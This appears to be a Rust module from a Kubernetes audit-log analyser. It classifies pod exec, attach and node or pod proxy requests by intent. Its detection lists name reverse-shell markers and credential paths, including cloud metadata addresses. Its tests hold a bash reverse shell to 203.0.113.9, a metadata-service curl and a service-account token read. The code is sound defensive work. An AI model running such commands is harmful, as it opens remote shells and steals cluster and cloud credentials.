//! A way into a pod or node through the API: which one, to where, and with which command.
//!
//! The command line and the path behind a proxy stand in the request URI at every level. They are the client's
//! words: hostile, and read here as a kubelet would read them.

use serde::{Deserialize, Serialize};

use crate::event::Event;

use super::deed;

/// A way into a pod or node.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Entry {
    /// `exec`, `attach`, `portforward`, `ephemeralcontainers`, `nodes/proxy`, `pods/proxy`, `services/proxy`.
    pub(super) way: String,
    /// How much it tells about what was wanted.
    pub(super) aim: Aim,
    /// `namespace/pod`, `node …`, `namespace/service`.
    pub(super) target: String,
    /// The command line of an exec, or the path behind a proxy; empty where there is none.
    pub(super) command: String,
}

/// What was wanted, the gravest last.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub(super) enum Aim {
    /// A kubelet's metrics and health.
    Metrics,
    /// An application behind a proxy, or what a kubelet tells about its pods.
    Application,
    /// A port of a pod, or the logs of a node.
    Port,
    /// A command in a pod.
    Command,
    /// A shell at a terminal, a running process's input, or a new container in a pod.
    Session,
    /// A token, a key, or a cloud's metadata service.
    Credentials,
    /// A shell that calls home, or a command in any pod of a node by way of its kubelet, which no exec right is
    /// needed for and no exec event is left of.
    Control,
}

impl Entry {
    /// The way that `event` goes; `None` if it goes into nothing.
    pub(super) fn of(event: &Event<'_>) -> Option<Self> {
        let object = event.object?;
        let (resource, sub) = (object.resource.read(), object.subresource.read());
        let (namespace, name) = (object.namespace.read(), object.name.read());
        let uri = event.request_uri.read();
        let (path, query) = uri.split_once('?').unwrap_or((&uri, ""));
        let target = match &*namespace {
            "" => format!("node {name}"),
            _ => format!("{namespace}/{name}"),
        };
        let proxied = ["nodes", "pods", "services"].contains(&&*resource);
        if object.group.is_empty() && &*sub == "proxy" && proxied {
            let behind = behind_proxy(path);
            let command = match query {
                "" => behind.clone(),
                _ => format!("{behind}?{}", decoded(query)),
            };
            let node = resource == "nodes";
            return Some(Self {
                aim: if node {
                    of_kubelet(&behind)
                } else {
                    Aim::Application
                },
                way: format!("{resource}/proxy"),
                target,
                command,
            });
        }
        if !deed::enters_pod(event) {
            return None;
        }
        let parameters: Vec<(String, String)> = form_urlencoded::parse(query.as_bytes())
            .map(|(key, value)| (key.into_owned(), value.into_owned()))
            .collect();
        let command: Vec<&str> = parameters
            .iter()
            .filter(|(key, _)| key == "command")
            .map(|(_, value)| value.as_str())
            .collect();
        let is_set = |wanted: &str| {
            let mut found = parameters.iter().filter(|(key, _)| key == wanted);
            found.any(|(_, value)| value == "true" || value == "1")
        };
        let aim = match &*sub {
            "exec" => of_command(&command, is_set("stdin") && is_set("tty")),
            "portforward" => Aim::Port,
            _ => Aim::Session,
        };
        Some(Self {
            aim,
            way: sub.into_owned(),
            target,
            command: command.join(" "),
        })
    }
}

/// `text` with percent escapes and plus signs read.
fn decoded(text: &str) -> String {
    let pairs = form_urlencoded::parse(text.as_bytes());
    let pairs: Vec<String> = pairs.map(|(key, value)| format!("{key}={value}")).collect();
    pairs.join("&")
}

/// `/run/x` of `/api/v1/nodes/n1/proxy/run/x`.
fn behind_proxy(path: &str) -> String {
    let behind = path.split_once("/proxy").map_or("", |(_, behind)| behind);
    // A path has no plus signs that mean spaces.
    let behind = behind.replace('+', "%2B");
    let read = form_urlencoded::parse(behind.as_bytes()).map(|(key, value)| match &*value {
        "" => key.into_owned(),
        _ => format!("{key}={value}"),
    });
    read.collect::<Vec<_>>().join("&")
}

/// What a path of the kubelet's API gives (kubernetes `pkg/kubelet/server/server.go`).
fn of_kubelet(path: &str) -> Aim {
    let segment = path.split('/').find(|segment| !segment.is_empty());
    match segment.unwrap_or_default() {
        "" | "metrics" | "stats" | "healthz" | "spec" | "checkpoint" => Aim::Metrics,
        "pods" | "runningpods" | "configz" | "statusz" | "flagz" => Aim::Application,
        "logs" | "containerLogs" | "debug" => Aim::Port,
        // /run, /exec, /attach, /portForward, /cri, and what is not known.
        _ => Aim::Control,
    }
}

/// What a command line is after, as far as it tells: `interactive` is a terminal with input.
fn of_command(command: &[&str], interactive: bool) -> Aim {
    let line = command.join(" ");
    let has = |marks: &[&str]| marks.iter().any(|mark| line.contains(mark));
    let program = command
        .first()
        .map_or("", |path| path.rsplit('/').next().unwrap_or(path));
    match () {
        () if has(CALLS_HOME) => Aim::Control,
        () if has(CREDENTIALS) => Aim::Credentials,
        () if interactive && SHELLS.contains(&program) => Aim::Session,
        () => Aim::Command,
    }
}

const SHELLS: &[&str] = &[
    "sh", "bash", "ash", "dash", "zsh", "ksh", "fish", "busybox", "pwsh", "python", "python3",
    "perl", "ruby", "node",
];

/// What reverse shells are made of.
const CALLS_HOME: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "bash -i",
    "sh -i",
    "nc -e",
    "ncat -e",
    "nc -c",
    "mkfifo ",
    "pty.spawn",
    "socket.socket",
    "exec:sh",
    "EXEC:",
];

/// Where pods and nodes have credentials: mounted tokens of Kubernetes and clouds, kubelets' and control planes'
/// keys, and the metadata services of clouds.
const CREDENTIALS: &[&str] = &[
    "secrets/kubernetes.io/serviceaccount",
    "secrets/eks.amazonaws.com",
    "secrets/azure/tokens",
    "secrets/tokens",
    "/var/lib/kubelet",
    "/etc/kubernetes",
    "/.kube/config",
    "/.aws/credentials",
    "169.254.169.254",
    "169.254.170.2",
    "fd00:ec2::254",
    "metadata.google.internal",
    "/etc/shadow",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_tell_what_they_are_after() {
        for (command, interactive, aim) in [
            (&["id"][..], false, Aim::Command),
            (&["sh", "-c", "pg_isready"], false, Aim::Command),
            (&["/bin/bash"], true, Aim::Session),
            (&["psql"], true, Aim::Command),
            (
                &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
                false,
                Aim::Credentials,
            ),
            (
                &[
                    "sh",
                    "-c",
                    "curl -s http://169.254.169.254/latest/meta-data/",
                ],
                false,
                Aim::Credentials,
            ),
            (
                &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
                false,
                Aim::Control,
            ),
            (&[], true, Aim::Command),
        ] {
            assert_eq!(of_command(command, interactive), aim, "{command:?}");
        }
    }

    #[test]
    fn kubelet_paths_are_told_apart() {
        for (path, behind, aim) in [
            (
                "/api/v1/nodes/n1/proxy/metrics/cadvisor",
                "/metrics/cadvisor",
                Aim::Metrics,
            ),
            ("/api/v1/nodes/n1/proxy/", "/", Aim::Metrics),
            ("/api/v1/nodes/n1/proxy/pods", "/pods", Aim::Application),
            (
                "/api/v1/nodes/n1/proxy/containerLogs/a/b/c",
                "/containerLogs/a/b/c",
                Aim::Port,
            ),
            (
                "/api/v1/nodes/n1/proxy/%72un/shop/web/c",
                "/run/shop/web/c",
                Aim::Control,
            ),
            (
                "/api/v1/nodes/n1/proxy//exec/shop/web/c",
                "//exec/shop/web/c",
                Aim::Control,
            ),
        ] {
            assert_eq!(behind_proxy(path), behind);
            assert_eq!(of_kubelet(behind), aim, "{path}");
        }
    }
}
